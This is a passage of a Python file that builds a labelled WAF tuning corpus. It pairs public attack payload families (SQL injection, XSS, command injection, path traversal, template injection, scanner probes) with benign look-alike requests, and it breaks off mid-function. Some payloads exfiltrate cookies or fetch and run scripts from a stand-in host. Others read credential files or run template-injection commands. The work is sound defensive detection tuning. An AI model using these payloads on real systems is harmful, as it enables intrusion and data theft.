# ruff: noqa: E501 - payload and sample lists read best one line each
"""Fifth batch of the WAF tuning corpus (round 4, issue 15): families, not items.

Written from public knowledge only -- PayloadsAllTheThings (SQL injection,
XSS in JavaScript contexts, command injection, directory traversal), the
OWASP CRS rule logic (942 SQLi, 941 XSS, 932 RCE, 930 LFI, 913 scanner
detection and its data files) and its paranoia-level-1 false-positive notes,
libinjection's behaviour on short values, sqlmap's tamper scripts and the
public CVE write-ups for probe paths -- and never from a held-out set.

Each attack family comes with the benign traffic that looks most like it:

* blind SQL injection without quotes (time-based, boolean, error-based) --
  against search text and numbers with "and"/"or" in them;
* JavaScript-string breakouts (``';alert(1)//``, ``'}-alert(1)-{'``) --
  against names and prose with apostrophes and punctuation;
* command injection in more shells and spellings (Windows ``cmd``, ``$9``
  and ``${PATH:0:1}`` tricks, time delays) -- against ops notes;
* path traversal spellings (``..;/``, ``....//``, Unicode slashes, sensitive
  files beyond ``/etc/passwd``) -- against markdown with relative links and
  dotted names (``app.config.v2``, ``0.9.1``, ``..`` in prose);
* scanners by marker header and by probe paths of public CVEs -- against
  ordinary API paths and clients;
* SSTI probes -- against CMS template text (``Hello {{name}}``,
  ``{% if is_member %}``, ``<%= user.name %>``, ``{{ tags|join(", ") }}``);
* code review and docs quoting SQL with and without markdown.

A seeded 30% is marked ``"split": "tune-test"``, as in batch 4: tune with
``--split tune``, measure the held-back part once, at the end.  Its own RNG
keeps the earlier batches byte-identical.
"""

from __future__ import annotations

import hashlib
import json
import random
from urllib.parse import quote

from batch4 import _place, _ua

rng5 = random.Random(4242)
TEST_SHARE = 0.30

SQLI5 = [
    # time-based blind, no quote needed
    "1 AND SLEEP(5)",
    "1) AND SLEEP(5)-- -",
    "1 AND (SELECT 1 FROM (SELECT SLEEP(5))x)",
    "1 OR SLEEP(5)#",
    "1 RLIKE SLEEP(5)",
    "1 AND 1=(SELECT 1 FROM PG_SLEEP(5))",
    "1;SELECT PG_SLEEP(5)",
    "1 WAITFOR DELAY '0:0:5'",
    "1);WAITFOR DELAY '00:00:05'--",
    "1 AND BENCHMARK(3000000,SHA1(1))",
    "1 AND 4127=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)",
    "if(now()=sysdate(),sleep(5),0)",
    "0 XOR IF(1=1,SLEEP(5),0)",
    "1 AND IF(ASCII(SUBSTR(DATABASE(),1,1))>97,SLEEP(5),0)",
    "1/**/AND/**/SLEEP(5)",
    "1%20AND%20SLEEP(5)",
    "(SELECT(0)FROM(SELECT(SLEEP(5)))v)",
    "1 AND 2=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))",
    "1+AND+SLEEP(5)",
    "1 AND CASE WHEN 1=1 THEN PG_SLEEP(5) ELSE NULL END IS NULL",
    "1; IF (1=1) WAITFOR DELAY '0:0:5'--",
    # boolean blind, no quotes
    "1 AND 1=1",
    "1 AND 1=2",
    "5 AND 3>2",
    "1 OR 2>1",
    "-1 OR 17-7=10",
    "1 AND LENGTH(DATABASE())=8",
    "1 AND ASCII(SUBSTRING(USER(),1,1))>64",
    "1 AND ORD(MID(VERSION(),1,1))=53",
    "1 AND (SELECT SUBSTRING(@@version,1,1))=5",
    "1 AND EXISTS(SELECT 1 FROM users)",
    "1 AND 1 LIKE 1",
    "1 AND 3 BETWEEN 2 AND 4",
    "1 AND NOT 1=2",
    "1 AND 1=1-- -",
    "1 AND 5=5#",
    "2-1",
    "1*1",
    "1 AND (SELECT COUNT(*) FROM users)>0",
    "1 AND UNICODE(SUBSTRING(DB_NAME(),1,1))>64",
    "1 AND SUBSTR(SQLITE_VERSION(),1,1)=3",
    "1 AND ROWNUM=1",
    "1 AND 0x61=0x61",
    "1 AND CHAR(65)=CHAR(65)",
    "1 || 1=1",
    "1 && 1=1",
    "1 AND TRUE",
    "1 OR TRUE--",
    "1 AND HEX(1)=31",
    # error-based and catalogue access
    "1 AND EXTRACTVALUE(1,CONCAT(0x5c,USER()))",
    "1 AND UPDATEXML(1,CONCAT(0x7e,DATABASE()),1)",
    "1 AND 1=CONVERT(INT,@@version)",
    "1 AND 1=CAST(CURRENT_USER AS INT)",
    "1 AND GTID_SUBSET(CONCAT(0x7e,USER()),1)",
    "1 AND ROW(1,1)>(SELECT COUNT(*),CONCAT(USER(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)",
    "1 AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,USER())) USING utf8)))",
    "1 AND 1=(SELECT TOP 1 name FROM sysobjects)",
    # sqlmap tampers on classics
    "1/*!50000UNION*//*!50000SELECT*/1,2,3",
    "1 /*!UNION*/ /*!ALL*/ /*!SELECT*/ user()",
    "1%0bUNION%0bSELECT%0bpassword%0bFROM%0busers",
    "1\fUNION\fSELECT\fNULL",
    "1%a0UNION%a0SELECT%a0NULL",
    "1 UnIoN SeLeCt NULL,NULL--",
    "1%0d%0aUNION%0d%0aSELECT%0d%0a1,2",
    "-1 UNION(SELECT(user),(password)FROM(users))",
    "1 union distinctrow select 1,2",
    "1 AND 1=0 UNION SELECT 1,table_name FROM all_tables",
    # quoted classics in new dress
    "admin'/*",
    "admin'-- -",
    "' OR 'x'='x'#",
    "') OR ('x')=('x",
    "'||(SELECT 1)||'",
    "' AND 1=0 UNION SELECT NULL--",
    "'%20or%201=1%23",
    '" OR 1=1 -- -',
    "' OR SLEEP(5) OR '",
    "1' AND (SELECT 2*(IF((SELECT 1)=1,SLEEP(5),1)))-- -",
    "' AND ASCII(LOWER(SUBSTRING(USER(),1,1)))>100 AND '1'='1",
]

XSS5 = [
    # JavaScript string breakouts (the value lands inside a quoted JS string)
    "';alert(1);//",
    '";alert(1);//',
    "'-alert(1)-'",
    '"-alert(1)-"',
    "'+alert(1)+'",
    "'*alert(1)*'",
    "'/alert(1)/'",
    "'^alert(1)^'",
    "');alert(1);//",
    '");alert(1);//',
    "'}-alert(1)-{'",
    "'];alert(1);//",
    "\\';alert(1)//",
    '\\";alert(1)//',
    "'%0aalert(1)//",
    "';confirm`1`//",
    "'-prompt(document.domain)-'",
    "';top['al'+'ert'](1)//",
    "';self[`alert`](1)//",
    "';window['ev'+'al']('aler'+'t(1)')//",
    "'-(alert)(1)-'",
    "';[1].find(alert)//",
    "';[1].map(alert)//",
    "'-alert?.(1)-'",
    '";throw onerror=alert,1//',
    "';throw/a/,Uncaught=1,g=alert;a=URL+0,onerror=eval,/1/g+a[12]+[1337]+a[13]//",
    "';fetch('//x5.example/'+document.cookie)//",
    "';location='//x5.example/?c='+document.cookie//",
    "';new Image().src='//x5.example/?'+document.cookie//",
    "'-setTimeout('alert(1)')-'",
    "';import('//x5.example/x.js')//",
    "'}};alert(1);{{'",
    '"};alert(1);var x={"a":"',
    "x';alert(String.fromCharCode(88,83,83))//",
    "</script><script>alert(1)</script>",
    "</ScRiPt><img src=x onerror=alert(1)>",
    "${alert(1)}",
    "`-alert(1)-`",
    "'; alert(1); var a='",
    # HTML breakouts with odd separators
    '"><svg/onload=alert(1)>',
    "'><img/src/onerror=alert(1)>",
    "<svg\tonload=alert(1)>",
    "<img src=x onerror\t=alert(1)>",
    '<a href="java\tscript:alert(1)">x</a>',
    '<iframe src="jav&#x09;ascript:alert(1)">',
    "<details open ontoggle=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "{{constructor.constructor('alert(1)')()}}",
    "<div ng-app ng-csp><div ng-click=$event.view.alert(1)>x</div></div>",
    "<x v-html=\"_c.constructor('alert(1)')()\">",
]

CMDI5 = [
    # time delays and out-of-band
    "; sleep 10",
    "|| sleep 10 ||",
    "& ping -n 10 127.0.0.1 &",
    "`sleep 10`",
    "$(sleep 10)",
    "x; sleep 10 #",
    "| timeout /t 10",
    "%0asleep 10",
    "; nslookup x5.example",
    "| curl http://x5.example/$(whoami)",
    "& nslookup %USERNAME%.x5.example",
    "; dig $(hostname).x5.example",
    # Windows cmd and PowerShell
    "& dir C:\\",
    "| type C:\\Windows\\System32\\drivers\\etc\\hosts",
    "& whoami /all",
    "| net user",
    "&& net localgroup administrators",
    "& set",
    "| ipconfig /all",
    "& systeminfo",
    "| powershell -c whoami",
    '& powershell -nop -c "iwr http://x5.example/a.ps1|iex"',
    "%COMSPEC% /c whoami",
    "& cmd.exe /c ver",
    "| tasklist",
    "& wmic os get caption",
    "; Get-Process",
    "| Get-ChildItem C:\\Users",
    # spellings
    ";c${u}at /etc/passwd",
    ";ca$9t /etc/passwd",
    ";w$@hoami",
    ";/usr/bin/i?",
    ";{cat,/etc/passwd}",
    ";cat${IFS}/etc/passwd",
    ";echo${IFS}${PATH:0:1}etc${PATH:0:1}passwd",
    ";cat ${HOME:0:1}etc${HOME:0:1}passwd",
    ";$(printf 'id')",
    ";$(echo aWQ= | base64 -d)",
    ";{echo,aWQ=}|{base64,-d}|bash",
    ";X=$'cat\\x20/etc/passwd'&&$X",
    ";rev<<<'imaohw'|sh",
    ";cat</etc/passwd",
    "\nid",
    "\r\nwhoami",
    "';id;'",
    '";id;"',
    "$(id)",
    "a|id",
    "a||id",
    "a&&id",
    "`id`",
    "1;uname -a",
    "x;ls -la /",
    "x|cat /etc/shadow",
    "x&&curl x5.example|sh",
    # argument injection
    "--upload-pack=touch /tmp/pwn",
    '-oProxyCommand="sh -c id"',
    "--checkpoint-action=exec=sh shell.sh",
    "--use-compress-program=sh -c id",
    "-exec sh -c id ;",
    "--to-command=id",
    "-o /var/www/html/s.php",
]

TRAVERSAL5 = [
    "..;/..;/..;/etc/passwd",
    "/..;/..;/WEB-INF/web.xml",
    "....//....//....//etc/passwd",
    "..././..././etc/passwd",
    "....\\\\....\\\\windows\\\\win.ini",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fhosts",
    "..%252f..%252f..%252fetc%252fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fshadow",
    "..%c0%af..%c0%afetc%c0%afpasswd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%u2215..%u2215etc%u2215passwd",
    "%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd",
    "..\u2215..\u2215etc\u2215passwd",
    "..\u2044..\u2044etc\u2044passwd",
    "．．／．．／etc／passwd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    ".%2e/.%2e/.%2e/etc/passwd",
    "/etc/passwd%00.png",
    "../../../../etc/passwd%00",
    "/var/www/images/../../../etc/passwd",
    "static/..%2f..%2fapp.py",
    # sensitive files as values
    "/etc/nginx/nginx.conf",
    "/etc/mysql/my.cnf",
    "/etc/ssh/sshd_config",
    "/etc/hostname",
    "/etc/resolv.conf",
    "/etc/environment",
    "/etc/fstab",
    "/root/.bash_history",
    "/home/ubuntu/.ssh/id_rsa",
    "/home/app/.bash_history",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/etc/kubernetes/admin.conf",
    "/opt/tomcat/conf/tomcat-users.xml",
    "/usr/local/etc/php/php.ini",
    "/etc/ssl/private/server.key",
    "/proc/self/fd/0",
    "/proc/1/environ",
    "/proc/self/cmdline",
    "/var/lib/mysql/mysql/user.MYD",
    "C:\\Windows\\System32\\config\\SAM",
    "C:/Windows/win.ini",
    "c:\\inetpub\\wwwroot\\web.config",
    "\\\\?\\C:\\Windows\\win.ini",
    "file:/etc/passwd",
    "/.dockerenv",
    "/app/config/secrets.yml",
    "/srv/app/.env",
    "../.env",
    "../../config/database.yml",
    "../../../app/settings.py",
]

SCANNER_UA5 = [
    "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0",
    "feroxbuster/2.10.2",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "OpenVAS-VT 22.4",
    "Nessus SOAP",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/80.0.3987.132 Safari/537.36 Acunetix",
    "Mozilla/5.0 (compatible; Netsparker)",
    "Wfuzz/3.1.0",
    "dirsearch/0.4.3",
    "Mozilla/5.0 (X11; Linux x86_64) Arachni/v1.6.1",
    "Jorgee",
    "w3af.org",
    "commix/v3.9 (https://commixproject.com)",
    "Mozilla/5.0 (compatible; Burp Suite Scanner)",
    "Morfeus Fucking Scanner",
    "Mozilla/5.0 (compatible; Qualys WAS)",
    "python-requests/2.31.0 sqlmap",
    "Mozilla/5.0 (compatible; Detectify)",
    "XSStrike/3.1.5",
    "dalfox/2.9.2",
    "Mozilla/5.0 (compatible; WhatWeb/0.5.5)",
    "Mozilla/5.0 (compatible; Nmap)",
    "ZmEu",
    "Hydra v9.5",
    "Mozilla/4.0 (compatible; MSIE 6.0; DirBuster)",
    "nuclei/3.2.4",
    "Mozilla/5.0 (compatible; Vega/1.0)",
    "skipfish/2.10b",
    "Mozilla/5.0 (compatible; AppScan)",
    "Mozilla/5.0 (compatible; WebInspect)",
]
# Marker headers scanners send (CRS scanners-headers.data and the tools' own docs).
SCANNER_HEADERS5 = [
    ("acunetix-product", "WVS/14.0 (Acunetix Web Vulnerability Scanner - NORMAL)"),
    ("acunetix-scanning-agreement", "Third Party Scanning PROHIBITED"),
    ("acunetix-user-agreement", "http://www.acunetix.com/wvs/disc.htm"),
    ("x-scanner", "Netsparker"),
    ("x-wipp", "AscVersion=22.1.0"),
    ("x-ratproxy-loop", "1"),
    ("x-request-memo", "ID=1e6 ; ThreadId=3"),
    ("x-scan-memo", 'Category="Audit"; SID="1"'),
    ("acunetix-aspect", "enabled"),
]
# Probe paths of public CVEs and exposed files (CVE write-ups, CRS scanners-urls, SecLists).
SCANNER_PATHS5 = [
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/_ignition/execute-solution",
    "/solr/admin/cores",
    "/actuator/gateway/routes",
    "/autodiscover/autodiscover.json",
    "/ecp/default.flt",
    "/owa/auth/logon.aspx",
    "/api/jsonws/invoke",
    "/remote/fgt_lang",
    "/dana-na/auth/url_default/welcome.cgi",
    "/+CSCOT+/translation-table",
    "/vpn/../vpns/cfg/smb.conf",
    "/mgmt/tm/util/bash",
    "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp",
    "/console/css/%252e%252e%252fconsole.portal",
    "/wls-wsat/CoordinatorPortType",
    "/_async/AsyncResponseService",
    "/manager/html",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/GponForm/diag_Form",
    "/cgi-bin/luci",
    "/mifs/.;/services/LogService",
    "/s/x/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties",
    "/invoker/JMXInvokerServlet",
    "/jmx-console/HtmlAdaptor",
    "/CFIDE/administrator/index.cfm",
    "/axis2/axis2-admin/",
    "/ReportServer/Pages/ReportViewer.aspx",
    "/.git/HEAD",
    "/.svn/entries",
    "/.DS_Store",
    "/.vscode/sftp.json",
    "/sftp-config.json",
    "/WEB-INF/web.xml",
    "/META-INF/MANIFEST.MF",
    "/app/etc/local.xml",
    "/sites/default/settings.php",
    "/config.php.bak",
    "/wp-config.php~",
    "/.env.production",
    "/backup.tar.gz",
    "/db.sql",
    "/dump.sql.gz",
    "/phpinfo.php",
    "/test.php",
    "/server-status",
    "/elmah.axd",
    "/trace.axd",
    "/druid/index.html",
    "/nacos/v1/auth/users",
    "/v2/_catalog",
    "/containers/json",
    "/jolokia/list",
    "/heapdump",
    "/api/v1/namespaces/default/secrets",
    "/telescope/requests",
    "/debug/default/view",
    "/cgi-bin/test-cgi",
    "/index.php",
    "/admin.php",
    "/login.jsp",
    "/default.aspx",
    "/nessustest",
    "/appscan_fingerprint/mac_address",
    "/Nmap/folder/check1234",
    "/struts2-showcase/index.action",
    "/.aws/credentials",
]

SSTI5 = [
    "{{7*7}}",
    "{{7*'7'}}",
    "{{ 7 * 7 }}",
    "${7*7}",
    "#{7*7}",
    "*{7*7}",
    "<%= 7*7 %>",
    "${{7*7}}",
    "{{=7*7}}",
    "[[${7*7}]]",
    "@(7*7)",
    "{{config.__class__}}",
    "{{config.items()}}",
    "{{ self.__init__.__globals__ }}",
    "{{request.application.__globals__}}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ ()|attr(['_'*2,'class','_'*2]|join) }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
    "{% import os %}{{ os.system('id') }}",
    "{% include '/etc/passwd' %}",
    "{% debug %}",
    "{% load module %}",
    "{% set x = cycler.__init__ %}",
    "{{ settings.SECRET_KEY }}",
    "<%= File.read('/etc/passwd') %>",
    "<%= `id` %>",
    "<% import os %>${os.popen('id').read()}",
    "${self.module.cache.util.os.system('id')}",
    "{{ request.environ }}",
    "{% if ''.__class__ %}x{% endif %}",
    "{{ namespace.__init__.__globals__ }}",
    "{{joiner.__init__.__globals__.os}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "#{T(java.lang.System).getenv()}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    '{{_self.env.registerUndefinedFilterCallback("exec")}}',
    "{php}echo `id`;{/php}",
]

# -- benign hard cases --------------------------------------------------------------------
MARKDOWN5 = [
    "## Setup\n\nInstall the CLI and run:\n\n```bash\ncurl -sSL https://get.example.dev/install.sh | sh\nexample init\n```\n\nThen open the dashboard.",
    "See the architecture diagram: ![arch](../../docs/img/architecture.png)\n\nDetails in [the guide](../guide/setup.md).",
    "# Release notes 2.4\n\n- Fixed `SELECT ... FOR UPDATE` deadlock in the worker\n- Dropped Python 3.8\n- See [migration](../../MIGRATION.md)",
    "### Query\n\n```sql\nSELECT id, email FROM users WHERE created_at > now() - interval '7 days' ORDER BY id;\n```\n\nRuns in 40 ms on staging.",
    "| column | type |\n|---|---|\n| id | int |\n| name | text |\n\nUse `ALTER TABLE orders ADD COLUMN note text;` to add it.",
    "> **Note** run `make test` before pushing.\n\n1. `git checkout -b fix`\n2. `git commit -am 'fix'`\n3. open a PR",
    "Links: [home](/), [docs](./docs/index.md), [up](../README.md), [api](../../api/v2/README.md).",
    "```python\nimport os\nos.environ.get('HOME')\nsubprocess.run(['ls', '-l'], check=True)\n```\nWorks locally; fails in CI.",
    "To reset: `rm -rf node_modules && npm ci`. If that fails, `cat ~/.npmrc` and check the registry.",
    "## Troubleshooting\n\nIf you see `permission denied`, try:\n\n```\nsudo chown -R $(whoami) ~/.config/app\n```",
    "Template example:\n\n```jinja\nHello {{ user.name }}!\n{% for item in items %}- {{ item.title }}\n{% endfor %}\n```",
    "Paths are relative: `../../shared/config.yaml` from `services/api/`. Keep `./data/` writable.",
    "**TODO**: replace `' OR 1=1` examples in the security docs with a real sqlmap run; see ../../docs/security.md",
    'Use `{{ tags|join(", ") }}` to print tags and `{{ name|e }}` to escape.',
    '<details><summary>Logs</summary>\n\n```\nERROR 2024-05-01 db: relation "orders" does not exist\n```\n</details>',
    "* [x] migrate `users` table\n* [ ] drop `legacy_orders` (`DROP TABLE legacy_orders;` after backup)\n* [ ] update ../../CHANGELOG.md",
]
DOTTED5 = [
    "app.config.v2",
    "com.example.orders.OrderService",
    "0.9.1",
    "0.0.1",
    "0.0.3-beta.2",
    "10.4.2",
    "1.0.0.1",
    "127.0.0-rc1",
    "v0.0.1",
    "settings.production.database.host",
    "spring.datasource.url",
    "logging.handlers.RotatingFileHandler",
    "django.contrib.auth.backends.ModelBackend",
    "..",
    "...",
    "wait... what?",
    "a.b.c.d.e",
    "$.data.items[0].name",
    "user.address.city",
    "meta.env.name",
    "config.yaml",
    "app.settings.local",
    "./config/../config/app.yaml",
    "../shared",
    "../../",
    "org.apache.logging.log4j",
    "java.lang.String",
    "os.path.join",
    "sys.path",
    "package.json",
    "tsconfig.base.json",
    "docker-compose.override.yml",
    ".eslintrc.json",
    ".github/workflows/ci.yml",
    "src/app/../lib/util.ts",
    "@scope/pkg.name",
    "index.d.ts",
    "v2.sql.migrations.0003_add_index",
    "etc.",
    "i.e. the /etc folder",
    "release/1.2.x",
    "0.0.0",
]
TEMPLATE5 = [
    "Hi {{ customer }}, parcel {{ parcel_no }} left the depot today.",
    "Hi {{ first_name }}! Your code is {{code}}.",
    "{% if is_member %}Member price applied.{% endif %}",
    "{% if order.total > 100 %}Free shipping!{% else %}Shipping: {{ shipping }}{% endif %}",
    "{% for item in items %}- {{ item.name }} x{{ item.qty }}\n{% endfor %}",
    "Dear ${firstName}, welcome to ${company}.",
    "Your ticket ${ticket.id} was updated by ${agent.name}.",
    "<%= user.name %> joined <%= team %>.",
    "<% if member %>Member<% end %>",
    "{{#if premium}}Premium{{else}}Free{{/if}} plan",
    "{{#each items}}{{this.title}}, {{/each}}",
    'Hi {{name|title}}, see you {{ date|date:"D d M" }}',
    '{{ tags|join(", ") }}',
    "{{ name|e }}",
    "{{ body|safe }}",
    "{{ price|format_currency }}",
    "Order #{{ order.number }} ({{ order.items|length }} items)",
    "{% block content %}{{ content }}{% endblock %}",
    "{% raw %}{{ not rendered }}{% endraw %}",
    "{% with total=order.total %}{{ total }}{% endwith %}",
    "Reset link: {{ reset_url }} (valid {{ hours }}h)",
    "#{user.firstName}, your balance is #{balance}",
    "*{name} invited you",
    "@{user} mentioned you",
    "Hello [[${user.name}]]",
    "Subject: {{subject}}\nBody: {{body}}",
    "{% autoescape true %}{{ html }}{% endautoescape %}",
    "{{ settings.site_name }} newsletter",
]
REVIEW_SQL5 = [
    'This builds SQL with string formatting: query = "SELECT * FROM users WHERE id = " + user_id. Please use bound parameters.',
    "nit: SELECT count(*) FROM orders WHERE status = 'open' could use the partial index.",
    "Why not DELETE FROM sessions WHERE expires_at < now() in one statement?",
    "The migration runs ALTER TABLE users ADD COLUMN last_login timestamptz; fine on small tables.",
    "I think UNION ALL instead of UNION SELECT avoids the sort here.",
    "Careful: ' OR 1=1 is exactly what this endpoint would accept before the fix.",
    "order by 1 is fragile; name the column.",
    "Use WHERE id IN (SELECT order_id FROM refunds) or a join?",
    "SELECT name FROM products ORDER BY price DESC LIMIT 10",
    "UPDATE accounts SET balance = balance - 10 WHERE id = 7",
    "Does sleep(5) in the retry loop block the event loop?",
    "benchmark(): run it 1000 times and take the median.",
    "if(count == 1) return; -- early exit looks right",
    "1 and 2 are fine, 3 needs a test",
    "Rename the param: limit=10 OR page size?",
    "The query plan shows a seq scan on orders; add an index on (customer_id, created_at).",
    "INSERT INTO audit (who, what) VALUES ($1, $2) -- good, parameterised.",
    "Drop table? No -- we keep legacy_orders until Q3.",
    'cursor.execute("SELECT * FROM t WHERE name = %s", (name,)) is the safe form.',
]
SEARCH5 = [
    "1 and 2 bedroom flats",
    "sizes 10 or 12",
    "2+2=4 poster",
    "select menu broken on mobile",
    "union jack flag 3x5",
    "2 or 3 day delivery",
    "10 and under toys",
    "sleep mask",
    "sleep(5) song",
    "benchmark results 2024",
    "drop table lamp",
    "order by date",
    "where is my order",
    "1 or 2 people",
    "logic puzzle a=b and b=c",
    "and or not logic gates",
    "5 and 6 year olds",
    "true or false quiz",
]
NAMES5 = [
    "O'Neil",
    "D'Arcy-Smith",
    "Ngā Tāngata",
    "L'Oréal",
    "Rock 'n' Roll Café",
    "it's-me",
    "Mary-Kate O'Hara",
    'Jo\'s "Best" Bakery',
    "O'Brien; Sons & Co.",
    "Yusuf (Joe) D'Souza",
    "'Til Tuesday",
    "Smith/Jones - Partners",
]


# Written after the first round-4 measurement (appended, so earlier ids and splits stay):
# dot directories and dotfiles as values, and markdown whose syntax is not code.
DOTDIRS5 = [
    "~/.config/app/settings.json",
    ".github/workflows/ci.yml",
    "node_modules/.bin/eslint",
    ".env.example",
    ".gitignore",
    "~/.local/share/app/state.db",
    ".vscode/settings.json",
    "~/.cache/pip",
    ".devcontainer/devcontainer.json",
    "src/.eslintrc.cjs",
    ".husky/pre-commit",
    "~/.npm/_logs",
    "docs/.vitepress/config.ts",
    ".pre-commit-config.yaml",
]
MARKDOWN5B = [
    "> **Warning**\n> Do not run `rm -rf /` on production.",
    "## Usage\n\n```bash\n$ docker run -v $(pwd):/app image\n```",
    "### Steps\n\n1. Open **Settings**\n2. Run `kubectl get pods -n prod`\n3. Check the **Events** tab",
    "- [ ] rotate keys (`ramparts keys rotate`)\n- [x] bump `requests` to 2.32",
    "**Heads up:** `sudo systemctl restart nginx` drops connections for a second.",
    "# Changelog\n\n## 1.4.0\n\n* `--dry-run` flag for `deploy`\n* fixed `ls -la | grep` example in docs",
    "_Tip_: see [the runbook](https://wiki.example.com/runbooks/db) before `pg_dump -Fc app > app.dump`.",
]


def split_of(item_id: str) -> str:
    digest = hashlib.sha256(f"waftune4:{item_id}".encode()).digest()
    return "tune-test" if digest[0] < int(256 * TEST_SHARE) else "tune"


def _scanner_request(i: int, r: random.Random) -> tuple[dict, str]:
    headers = {"user-agent": _ua(r), "accept": "*/*"}
    if i < len(SCANNER_UA5):
        headers["user-agent"] = SCANNER_UA5[i]
        return {
            "method": "GET",
            "path": r.choice(["/", "/api/v2/items", "/login"]),
            "query": "",
            "headers": headers,
            "body": None,
        }, "ua"
    i -= len(SCANNER_UA5)
    if i < len(SCANNER_HEADERS5):
        name, value = SCANNER_HEADERS5[i]
        headers[name] = value
        return {
            "method": "GET",
            "path": "/api/v2/items",
            "query": "",
            "headers": headers,
            "body": None,
        }, "hdr"
    i -= len(SCANNER_HEADERS5)
    path = SCANNER_PATHS5[i]
    return {
        "method": r.choice(["GET", "GET", "HEAD", "POST"]),
        "path": path,
        "query": "",
        "headers": headers,
        "body": None,
    }, "path"


def attacks5() -> list[dict]:
    r = rng5
    out: list[dict] = []
    for category, payloads in (
        ("sqli", SQLI5),
        ("xss", XSS5),
        ("command_injection", CMDI5),
        ("path_traversal", TRAVERSAL5),
        ("ssti", SSTI5),
    ):
        for i, payload in enumerate(payloads):
            item_id = f"{category}-e{i:03d}"
            req = _place(
                payload,
                i + 3,
                r,
                header_ok="\n" not in payload and "\r" not in payload and "\f" not in payload,
            )
            out.append(
                {
                    "id": item_id,
                    "category": category,
                    "source": "tuning: fifth batch (public payload families)",
                    "split": split_of(item_id),
                    "request": req,
                }
            )
    for i in range(len(SCANNER_UA5) + len(SCANNER_HEADERS5) + len(SCANNER_PATHS5)):
        req, how = _scanner_request(i, r)
        item_id = f"scanner-e{how}{i:03d}"
        out.append(
            {
                "id": item_id,
                "category": "scanner",
                "source": "tuning: fifth batch (scanner fingerprints)",
                "split": split_of(item_id),
                "request": req,
            }
        )
    return out


def benign5() -> list[dict]:
    r = rng5
    out: list[dict] = []

    def add(kind: str, req: dict) -> None:
        item_id = f"benign5-{kind}-{len(out):04d}"
        out.append(
            {
                "id": item_id,
                "category": "benign",
                "kind": kind,
                "source": "tuning: fifth batch (benign hard cases)",
                "split": split_of(item_id),
                "request": req,
            }
        )

    def post(body: object, path: str, method: str = "POST") -> dict:
        return {
            "method": method,
            "path": path,
            "query": "",
            "headers": {"user-agent": _ua(r), "content-type": "application/json"},
            "body": json.dumps(body, ensure_ascii=r.random() < 0.5),
        }

    for text in MARKDOWN5:
        for field in ("body", "description", "content"):
            add(
                "markdown",
                post(
                    {"title": "Docs update", field: text, "draft": False},
                    r.choice(["/api/wiki/pages/12", "/api/issues/7/comments", "/api/posts"]),
                    r.choice(["POST", "PUT"]),
                ),
            )
    for text in DOTTED5:
        add(
            "dotted_path",
            post(
                {"key": text, "value": r.choice(["on", "3", "eu-west-1"])},
                "/api/v2/settings",
                "PATCH",
            ),
        )
        add(
            "dotted_path",
            {
                "method": "GET",
                "path": "/api/v2/config",
                "query": f"path={quote(text, safe='')}&format=json",
                "headers": {"user-agent": _ua(r)},
                "body": None,
            },
        )
    for text in TEMPLATE5:
        for field in ("template", "body_template"):
            add(
                "template_text",
                post(
                    {
                        "name": f"notify-{r.randrange(100)}",
                        field: text,
                        "channel": r.choice(["email", "sms"]),
                    },
                    "/api/v2/templates",
                    r.choice(["POST", "PUT"]),
                ),
            )
    for text in REVIEW_SQL5:
        add(
            "code_review_sql",
            post(
                {
                    "pull_request": r.randrange(3000, 4000),
                    "path": "app/db.py",
                    "line": r.randrange(1, 400),
                    "body": text,
                },
                "/api/reviews/comments",
            ),
        )
        add(
            "code_review_sql",
            post({"comment": {"body": text, "format": "plain"}}, "/api/tickets/31/comments"),
        )
    for text in SEARCH5:
        add(
            "search_query",
            {
                "method": "GET",
                "path": "/api/v2/search",
                "query": f"q={quote(text, safe='')}&page=1",
                "headers": {"user-agent": _ua(r)},
                "body": None,
            },
        )
        add("search_query", post({"query": text, "filters": {"in_stock": True}}, "/api/v2/search"))
    for text in NAMES5:
        add(
            "names",
            post(
                {"name": text, "email": "x@example.com", "note": f"Deliver to {text}; thanks!"},
                "/api/v2/customers",
            ),
        )
        add(
            "names",
            {
                "method": "GET",
                "path": "/api/v2/customers",
                "query": f"name={quote(text, safe='')}",
                "headers": {"user-agent": _ua(r)},
                "body": None,
            },
        )
    for text in DOTDIRS5:
        add(
            "dotted_path",
            {
                "method": "GET",
                "path": "/api/v2/files",
                "query": f"path={quote(text, safe='')}",
